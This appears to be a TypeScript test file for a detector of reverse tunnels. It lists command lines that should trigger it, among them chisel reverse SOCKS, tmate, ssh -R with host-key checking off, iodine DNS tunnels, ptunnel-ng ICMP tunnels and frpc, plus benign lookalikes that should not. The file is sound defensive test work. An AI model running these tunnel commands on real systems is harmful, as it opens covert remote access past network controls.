import { indicatorTable, runs, script, UNSEEN } from '../testing.ts';
import { commandReverseTunnel } from './reverse-tunnel.ts';

indicatorTable(commandReverseTunnel, {
  fires: {
    'chisel with a proxy on the other side': runs('chisel', 'client', 'https://203.0.113.7:443', 'R:1080:socks'),
    'a terminal for everybody who knows its name': script('tmate -F'),
    'ssh to a host that is not checked': script(
      'ssh -fN -o StrictHostKeyChecking=no -R 0.0.0.0:2222:localhost:22 t@gw.example.net',
    ),
    'with the option joined': script('autossh -M 0 -oUserKnownHostsFile=/dev/null -NR 9000:web:80 t@gw.example.net'),
    'a connection that hides in names': script('iodine -f -P secret t1.example.net'),
    'a connection that hides in pings': runs('ptunnel-ng', '-p', '203.0.113.7', '-lp', '8000'),
    'a probe of Weave Scope for somebody outside': runs(
      'scope',
      '--mode=probe',
      '--probe.docker=true',
      'http://@203.0.113.7:4040',
    ),
    'a proxy with a way to it': script('microsocks -p 1080 & frpc tcp --server-addr 203.0.113.7 --local-port 1080'),
  },
  staysSilent: {
    'a probe of Weave Scope for its own map': runs(
      'scope',
      '--mode=probe',
      '--probe.docker=true',
      'weave-scope-app.weave.svc:80',
    ),
    'an application of that name': runs('/app/iodine', 'run', '--config', '/etc/app/config.yaml'),
    'a proxy for the pod itself': script(
      'microsocks -i 127.0.0.1 -p 1080 & curl -x socks5://127.0.0.1 https://example.com',
    ),
    'a way to a preview': script('frpc tcp --server-addr preview.example.com --local-port 8080'),
    'a chisel server': runs('chisel', 'server', '--port', '8080'),
    'a forward tunnel with chisel': runs('chisel', 'client', 'https://gw.example.com', '5432:db:5432'),
    'a forward tunnel with ssh': script('ssh -o StrictHostKeyChecking=no -NL 5432:db:5432 t@gw.example.com'),
    'a reverse tunnel to a host that is known': script('ssh -NR 9000:localhost:80 t@gw.example.com'),
    'a command on another host': script('ssh -o StrictHostKeyChecking=no t@web.example.com uptime'),
  },
  cannotTell: UNSEEN,
});
